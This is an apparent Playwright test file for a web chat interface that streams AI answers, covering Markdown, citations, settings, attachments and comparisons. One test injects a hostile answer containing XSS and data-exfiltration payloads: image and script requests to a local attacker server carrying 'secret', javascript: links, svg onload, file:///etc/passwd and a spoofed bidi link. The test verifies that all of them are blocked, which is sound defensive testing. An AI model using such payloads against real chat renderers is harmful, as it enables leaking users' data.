/** The actions on an answer in the chat: in a real Chromium, before the real Worker and the embedded provider. */
import { execFile } from 'node:child_process'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { promisify } from 'node:util'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { anthropic } from '../../src/formats/anthropic/index.ts'
import { answerResponse } from '../../src/gateway/index.ts'
import { isExhaustive, itIfExhaustive } from '../support/cuts.ts'
import { axeFindings, chatOn, hasChromium, launchChromium, picture, problemsOf } from './browser.ts'
import { type Demo, startDemo } from './demo.ts'

const run = promisify(execFile)
/** In which a package finds itself by its name. */
const root = join(import.meta.dirname, '..', '..')
describe.skipIf(!hasChromium)('the chat', () => {
  let demo: Demo
  let browser: Browser
  let context: BrowserContext
  let page: Page
  let problems: string[]
  let chat: ReturnType<typeof chatOn>
  /** A server that a hostile answer wants to reach, and the requests to it. */
  let attacker: Server
  let attackerUrl: string
  let asked: string[] = []

  beforeAll(async () => {
    attacker = createServer((request, response) => {
      asked.push(request.url ?? '')
      response.end()
    })
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
    ;[demo, browser] = await Promise.all([startDemo(), launchChromium()])
    // Without the page's policy, which would stop what the renderer lets through.
    context = await browser.newContext({ bypassCSP: true, permissions: ['clipboard-read', 'clipboard-write'] })
    page = await context.newPage()
    problems = problemsOf(page)
    chat = chatOn(page)
    await load()
  })
  afterAll(async () => {
    await browser?.close()
    await demo?.stop()
    attacker?.close()
  })
  beforeEach(async () => {
    await page.setViewportSize({ width: 1000, height: 900 })
    await page.unrouteAll()
    problems.length = 0
    asked = []
    await page.evaluate(() => location.assign('#chat'))
    await page.getByLabel('Compare with').selectOption('')
    await page.getByRole('button', { name: 'New chat' }).click()
    await page.getByLabel('Model', { exact: true }).selectOption('anthropic:demo-model')
  })

  async function load() {
    await page.goto(demo.url)
    await page.locator('#model:enabled').waitFor()
  }
  /** The next answer, in pieces of three characters, as Anthropic streams it to the server. */
  async function answerWith(text: string, citations: readonly object[] = []) {
    const events = [
      {
        type: 'message_start',
        message: {
          id: 'msg_1',
          type: 'message',
          role: 'assistant',
          model: 'claude-haiku-4-5',
          content: [],
          usage: { input_tokens: 1000, output_tokens: 1 },
        },
      },
      { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } },
      ...(text.match(/[\s\S]{1,3}/g) ?? []).map((piece) => ({
        type: 'content_block_delta',
        index: 0,
        delta: { type: 'text_delta', text: piece },
      })),
      ...citations.map((citation) => ({
        type: 'content_block_delta',
        index: 0,
        delta: { type: 'citations_delta', citation },
      })),
      { type: 'content_block_stop', index: 0 },
      { type: 'message_delta', delta: { stop_reason: 'end_turn' }, usage: { output_tokens: 1000 } },
      { type: 'message_stop' },
    ]
    const body = events.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join('')
    // A server of the own wire, as the page asks one.
    const answered = async () => new Response(body, { headers: { 'content-type': 'text/event-stream' } })
    const model = anthropic('claude-haiku-4-5', { apiKey: 'a-key-of-nobody', fetch: answered })
    await page.route('**/answer', async (route) => {
      const asked = route.request()
      const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body: asked.postData() }
      const response = await answerResponse(model, new Request(asked.url(), init))
      await route.fulfill({ headers: Object.fromEntries(response.headers), body: await response.text() })
    })
  }

  it('draws Markdown, and requests no URL of a hostile answer', async () => {
    const hostile = [
      '# Title **bold',
      '',
      '| a | b |',
      '| - | - |',
      '| 1 | `2` |',
      '',
      '```js',
      'const html = "<b>"',
      '```',
      '',
      `![pixel](${attackerUrl}/image?q=secret) ![own](/leak.png?q=secret) ![svg](data:image/svg+xml,<svg onload=alert(1)>)`,
      `<img src="${attackerUrl}/html"> <link rel=stylesheet href="${attackerUrl}/css"> <style>@import "${attackerUrl}/style"</style>`,
      `<iframe src="${attackerUrl}/frame"></iframe><script>fetch("${attackerUrl}/script")</script>`,
      '[run](javascript:alert(1)) [again](java&#10;script:alert(1)) [data](data:text/html,hello) [file](file:///etc/passwd)',
      `[docs](https://docs.example/start) [the bank](${attackerUrl}/link) [https://docs.example/a](https://docs.example/b)`,
      '[https://mybank.example](https://bank.example) [bank.example@a.example](https://a.example) [\u202eknab](https://b.example)',
      '',
      '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGO4oKAARAwQCgAgjgRBUcmqiQAAAABJRU5ErkJggg==)',
      '',
    ].join('\n')
    await answerWith(hostile)
    const own: string[] = []
    page.on('request', (request) => own.push(request.url()))
    await chat.say('Hello')
    await chat.finished(1)
    const text = chat.answers().locator('> .text')
    await expect.poll(() => text.locator('h3 strong').innerText()).toBe('bold')
    await expect.poll(() => text.locator('td').allInnerTexts()).toEqual(['1', '2'])
    await expect.poll(() => text.locator('pre').innerText()).toContain('const html = "<b>"')
    await expect.poll(() => text.locator('script, iframe, link, style, [onerror]').count()).toBe(0)
    expect(await text.locator('img').evaluateAll((all) => all.map((one) => (one as HTMLImageElement).alt))).toEqual([
      'dot',
    ])
    const links = await text
      .locator('a[href]')
      .evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.textContent]))
    const { host } = new URL(attackerUrl)
    expect(links).toEqual([
      [`${attackerUrl}/image?q=secret`, `Image: pixel (${host})`],
      ['https://docs.example/start', 'docs (docs.example)'],
      [`${attackerUrl}/link`, `the bank (${host})`],
      ['https://docs.example/b', 'https://docs.example/a'],
      ['https://bank.example/', 'https://mybank.example (bank.example)'],
      ['https://a.example/', 'bank.example@a.example (a.example)'],
      ['https://b.example/', '\u202eknab (b.example)'],
    ])
    await expect
      .poll(() => text.locator('a[href]').first().getAttribute('rel'))
      .toBe('noopener noreferrer nofollow ugc')
    await page.waitForLoadState('networkidle')
    expect(asked).toEqual([])
    expect(own.filter((url) => url.includes('leak') || url.startsWith(attackerUrl))).toEqual([])
    expect(problems).toEqual([])
    await picture(page, 'chat-markdown')
  })

  it('keeps the drawn part while more text arrives', async () => {
    await chat.say('Count slowly')
    await chat.answers().locator('.text p').waitFor()
    const paragraph = await chat.answers().locator('.text p').elementHandle()
    const before = (await paragraph?.textContent()) ?? ''
    await page.waitForFunction(
      ([element, length]) => ((element as Element).textContent ?? '').length > (length as number),
      [paragraph, before.length] as const,
    )
    expect(await paragraph?.evaluate((element) => element.isConnected)).toBe(true)
    await page.keyboard.press('Escape')
  })

  it('numbers the sources of an answer, each once', async () => {
    const source = (url: string, title: string) => ({
      type: 'web_search_result_location',
      url,
      title,
      cited_text: 'words',
      encrypted_index: 'x',
    })
    await answerWith('Ada wrote it.', [
      source('https://example.com/notes', 'Notes'),
      source('javascript:alert(1)', 'Not a link'),
      source('https://example.com/notes', 'Notes'),
    ])
    await chat.say('Who?')
    await chat.finished(1)
    const items = chat.answers().locator('.sources li')
    await expect.poll(() => items.allInnerTexts()).toEqual(['Notes (example.com)', 'Not a link'])
    await expect.poll(() => chat.answers().locator('.sources a[href]').count()).toBe(1)
  })

  it('marks where a text cites a source, also within Markdown and with the characters of its own marks', async () => {
    const text = 'Ada **wrote** it \ue000 in 1843.'
    const module = await page.evaluateHandle<Markdown>("import('/markdown.js')")
    const cited = await page.evaluate(
      ([{ createMarkdown }, said]) => {
        const place = document.createElement('div')
        const one = { type: 'citation', url: 'https://example.com/a', title: 'A' }
        const citations = [
          { ...one, startIndex: 0, endIndex: 3 },
          { type: 'citation', url: 'https://example.com/b', startIndex: 0, endIndex: 11 },
          { ...one, startIndex: 20, endIndex: said.length },
        ]
        createMarkdown(place).show(said, citations, true)
        const links = [...place.querySelectorAll('sup a')].map((link) => link.getAttribute('href'))
        return [place.querySelector('p')?.innerHTML.replaceAll(/<a [^>]*>/g, '<a>'), links]
      },
      [module, text] as const,
    )
    expect(cited).toEqual([
      'Ada<sup><a>1</a></sup> <strong>wrote<sup><a>2</a></sup></strong> it \ufffd in 1843.<sup><a>1</a></sup>',
      ['https://example.com/a', 'https://example.com/b', 'https://example.com/a'],
    ])
  })

  it('shows the cost of an answer, and the time to its first token', async () => {
    await answerWith('Done.')
    await chat.say('Hello')
    await chat.finished(1)
    // Claude Haiku 4.5: 1,000 tokens in at $1 a million, 1,000 out at $5. https://platform.claude.com/docs/en/about-claude/pricing (read 2026-11)
    await expect
      .poll(() => chat.answers().locator('.meta').last().innerText())
      .toMatch(/^1000 in, 1000 out · stop · \$0\.0060 · \d+\.\d\d s to first token$/)
  })

  itIfExhaustive('copies an answer, answers again, and says something else in place of what was said', async () => {
    await chat.say('What is the weather in Tokyo?')
    await chat.finished(1)
    const before = await chat.answers().locator('> .text').innerText()
    await chat.answers().getByRole('button', { name: 'Copy' }).click()
    await chat.answers().getByRole('button', { name: 'Copied' }).waitFor()
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(before)

    const id = await chat.answers().elementHandle()
    await chat.answers().getByRole('button', { name: 'Regenerate' }).click()
    await page.waitForFunction((element) => !element?.isConnected, id)
    await chat.finished(1)
    await expect.poll(() => chat.answers().locator('.tool').count()).toBe(1)

    await page.getByRole('button', { name: 'Edit' }).click()
    const asking = page.waitForRequest((request) => request.postData()?.includes('weather in Paris') === true)
    await page.getByRole('textbox', { name: 'Edited message' }).fill('What is the weather in Paris?')
    await page.locator('.edit').getByRole('button', { name: 'Send' }).click()
    expect(JSON.parse((await asking).postData() ?? '').context.messages).toHaveLength(1)
    await chat.finished(1)
    await expect.poll(() => page.locator('#log article').count()).toBe(2)
    await expect.poll(() => page.locator('#log').innerText()).not.toContain('Tokyo')
    expect(problems).toEqual([])
  })

  itIfExhaustive('steps through the answers of one place by keyboard, and through what was said', async () => {
    await answerWith('First.')
    await chat.say('Hello')
    await chat.finished(1)
    await expect.poll(() => page.locator('.branches').count()).toBe(0)
    await answerWith('Second.')
    await chat.answers().getByRole('button', { name: 'Regenerate' }).click()
    await chat.answers().getByText('Second.').waitFor()
    await chat.finished(1)
    const group = chat.answers().getByRole('group', { name: 'This answer and others in its place' })
    await expect.poll(() => group.locator('span').innerText()).toBe('2 of 2')
    await expect.poll(() => group.getByRole('button', { name: 'Next answer' }).isDisabled()).toBe(true)
    await group.getByRole('button', { name: 'Previous answer' }).focus()
    await page.keyboard.press('Enter')
    await chat.answers().getByText('First.').waitFor()
    await expect.poll(() => group.locator('span').innerText()).toBe('1 of 2')
    // The focus stays in the place: the step back is used up, so that it is on the one forth.
    await page.locator('[aria-label="Next answer"]:focus').waitFor()
    await page.keyboard.press('Enter')
    await chat.answers().getByText('Second.').waitFor()
    await page.locator('[aria-label="Previous answer"]:focus').waitFor()

    await page.getByRole('button', { name: 'Edit' }).click()
    await page.getByRole('textbox', { name: 'Edited message' }).fill('Hello again')
    await page.locator('.edit').getByRole('button', { name: 'Send' }).click()
    await page.locator('#log article.user').getByText('Hello again').waitFor()
    await chat.finished(1)
    const said = page.getByRole('group', { name: 'This message and others in its place' })
    await expect.poll(() => said.locator('span').innerText()).toBe('2 of 2')
    expect(await axeFindings(page)).toEqual([])
    for (const width of [390, 1440]) {
      await page.setViewportSize({ width, height: 900 })
      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
      await picture(page, `chat-branches-${width}`)
    }
    await said.getByRole('button', { name: 'Previous message' }).click()
    await page.locator('#log article.user').getByText('Hello', { exact: true }).waitFor()
    await expect.poll(() => chat.answers().locator('.branches span').innerText()).toBe('2 of 2')
    expect(problems).toEqual([])
  })

  it('has the chat after a reload, and continues with it', async () => {
    await chat.say('What is the weather in Tokyo?')
    await chat.finished(1)
    const before = await chat.answers().innerText()
    await page.reload()
    await page.locator('#model:enabled').waitFor()
    await chat.finished(1)
    // The duration of a tool is not stored.
    await expect.poll(() => chat.answers().innerText()).toBe(before.replace(/done · [\d.]+ s/, 'done'))
    const asking = page.waitForRequest((request) => request.postData()?.includes('Hello again') === true)
    await chat.say('Hello again')
    expect((await asking).postData()).toContain('weather in Tokyo')
    await chat.finished(2)
    await page.getByRole('button', { name: 'New chat' }).click()
    await page.reload()
    await page.locator('#model:enabled').waitFor()
    await expect.poll(() => page.locator('#log article').count()).toBe(0)
  })

  itIfExhaustive('asks with the settings, and keeps them over a reload', async () => {
    await page.getByRole('button', { name: 'Settings' }).click()
    await page.getByLabel('System prompt').fill('Answer in French')
    await page.getByLabel('Temperature').fill('0.5')
    await page.getByLabel('Reasoning effort').selectOption('low')
    await page.getByLabel('Theme').selectOption('dark')
    expect(await axeFindings(page, '#settings')).toEqual([])
    await picture(page, 'chat-settings')
    await page.getByRole('button', { name: 'Close' }).click()
    await page.reload()
    await page.locator('#model:enabled').waitFor()
    expect(await page.evaluate(() => getComputedStyle(document.documentElement).colorScheme)).toBe('dark')
    const asking = page.waitForRequest((request) => request.postData()?.includes('Bonjour') === true)
    await chat.say('Bonjour')
    expect(JSON.parse((await asking).postData() ?? '')).toMatchObject({
      context: { system: 'Answer in French' },
      options: { temperature: 0.5, reasoning: { effort: 'low' } },
    })
    await chat.finished(1)
    await page.getByRole('button', { name: 'Settings' }).click()
    await page.getByLabel('System prompt').fill('')
    await page.getByLabel('Temperature').fill('')
    await page.getByLabel('Reasoning effort').selectOption('')
    await page.getByLabel('Theme').selectOption('')
    await page.getByRole('button', { name: 'Close' }).click()
  })

  it('sends files with a message, and names the files that it cannot send', async () => {
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGO4oKAARAwQCgAgjgRBUcmqiQAAAABJRU5ErkJggg=='
    await page.getByLabel('Attach', { exact: true }).evaluate((input, base64) => {
      const data = new DataTransfer()
      const bytes = Uint8Array.from(atob(base64), (one) => one.charCodeAt(0))
      data.items.add(new File([bytes], 'dot.png', { type: 'image/png' }))
      data.items.add(new File(['Remember the milk'], 'notes.txt', { type: 'text/plain' }))
      data.items.add(new File([new Uint8Array(9 * 1024 * 1024)], 'huge.png', { type: 'image/png' }))
      Object.assign(input, { files: data.files }).dispatchEvent(new Event('change', { bubbles: true }))
    }, png)
    await page.getByText('Cannot attach huge.png: it is larger than 8 MiB').waitFor()
    await expect.poll(() => page.locator('#attached li').allInnerTexts()).toHaveLength(2)
    await page.getByRole('button', { name: 'Remove notes.txt' }).click()
    const asking = page.waitForRequest((request) => request.url().endsWith('/answer'))
    await chat.say('What is this?')
    const { messages } = JSON.parse((await asking).postData() ?? '').context
    expect(messages[0].content).toMatchObject([
      { type: 'image', data: png },
      { type: 'text', text: 'What is this?' },
    ])
    await chat.finished(1)
    await expect.poll(() => page.locator('#log article.user img').count()).toBe(1)
    await expect.poll(() => page.locator('#attached li').count()).toBe(0)
  })

  itIfExhaustive('shows code that gives the same answer when Node runs it as it stands', async () => {
    await chat.say('What is the weather in Tokyo?')
    await chat.finished(1)
    await chat.answers().getByRole('button', { name: 'View code' }).click()
    const dialog = page.getByRole('dialog', { name: 'The code of this answer' })
    expect(await axeFindings(page, '#code')).toEqual([])
    await dialog.getByRole('button', { name: 'Copy the code' }).click()
    const code = await page.evaluate(() => navigator.clipboard.readText())
    expect(code).toBe(await dialog.locator('pre').textContent())
    await picture(page, 'chat-code')
    await dialog.getByRole('button', { name: 'Close' }).click()
    expect(code).toContain("prompt: 'What is the weather in Tokyo?'")
    expect(code).not.toMatch(/"|get_time|npm install/)
    // The embedded provider is in the place of Anthropic, and has its own key.
    const preload = `const send = fetch; globalThis.fetch = (url, init) => send(String(url).replace('https://api.anthropic.com', '${demo.providerUrl}'), init)`
    const redirect = ['--import', `data:text/javascript,${encodeURIComponent(preload)}`]
    const { stdout } = await run(process.execPath, [...redirect, '--input-type=module', '-e', code], {
      cwd: root,
      env: { ...process.env, ANTHROPIC_API_KEY: demo.key },
    })
    expect(stdout).toBe(await chat.answers().locator('> .text').innerText())
  })

  itIfExhaustive('asks two models side by side, and goes on from what was said', async () => {
    await page.setViewportSize({ width: 1440, height: 900 })
    await chat.say('What is the weather in Tokyo?')
    await chat.finished(1)
    await page.getByLabel('Compare with').selectOption('gemini:demo-model')
    const second = page.locator('#second')
    // It was not the other model that gave the first answer.
    await expect.poll(() => second.locator('article.assistant h2').innerText()).toBe('Anthropic: demo-model')
    await chat.say('Think: how many r are in strawberry?')
    await chat.finished(2)
    await page.waitForFunction(() => document.querySelectorAll('#second article.assistant').length === 2)
    await expect.poll(() => chat.answers().last().locator('h2').innerText()).toBe('Anthropic: demo-model')
    await expect
      .poll(() => second.locator('article.assistant').last().locator('h2').innerText())
      .toBe('Gemini: demo-model')
    await expect.poll(() => second.locator('article.assistant').last().innerText()).toContain('There are three')
    expect(await axeFindings(page)).toEqual([])
    await picture(page, 'chat-side-by-side')
    await page.getByLabel('Compare with').selectOption('')
    await expect.poll(() => second.isVisible()).toBe(false)
    expect(problems).toEqual([])
  })

  it('leaves no data of a chat in the views when a new one begins in the middle of a stream', async () => {
    await chat.say('Count slowly')
    await chat.answers().locator('.text').waitFor()
    await page.getByRole('button', { name: 'New chat' }).click()
    await page.evaluate(() => location.assign('#handoff'))
    await page.locator('#handoff-view:not([hidden])').waitFor()
    await expect.poll(() => page.locator('#handoff-sample').innerText()).not.toContain('This chat')
    await expect.poll(() => page.locator('#handoff-result').innerText()).not.toContain('Count slowly')
  })

  it('has the chat in the middle until the first answer, which opens the stream beside it', async () => {
    await page.setViewportSize({ width: 1440, height: 900 })
    const fresh = await context.newPage()
    await fresh.setViewportSize({ width: 1440, height: 900 })
    await fresh.goto(demo.url)
    await fresh.locator('#model:enabled').waitFor()
    const [left, width] = await fresh.locator('#composer').evaluate((element) => {
      const box = element.getBoundingClientRect()
      return [box.left, box.width] as const
    })
    expect(Math.abs(left + width / 2 - 720)).toBeLessThan(2)
    await expect.poll(() => fresh.locator('.view:visible').count()).toBe(0)
    await fresh.getByRole('button', { name: 'What is the weather in Tokyo?' }).click()
    await fresh.locator('#take-ending.proper').waitFor()
    await expect.poll(() => fresh.locator('#chat-view').isVisible()).toBe(true)
    await fresh.close()
  })

  // Colours go by the scheme and layout by the width, so each of them once.
  const looks = [
    [390, 'light'],
    [1440, 'dark'],
    [390, 'dark'],
    [1440, 'light'],
  ] as const
  it.each(isExhaustive ? looks : looks.slice(0, 2))('is readable at %i pixels, %s', async (width, colorScheme) => {
    await page.setViewportSize({ width, height: 900 })
    await page.emulateMedia({ colorScheme })
    await answerWith(
      'Two ways:\n\n1. **Wait**, as `sleep(1)` does\n2. [Ask](https://docs.example)\n\n```js\nawait answer()\n```\n',
    )
    await chat.say('How?')
    await chat.finished(1)
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
    expect(await axeFindings(page)).toEqual([])
    await picture(page, `chat-${width}-${colorScheme}`)
    await page.emulateMedia({ colorScheme: null })
  })
})

interface Markdown {
  createMarkdown(place: HTMLElement): { show(text: string, citations: readonly object[], isDone: boolean): void }
}
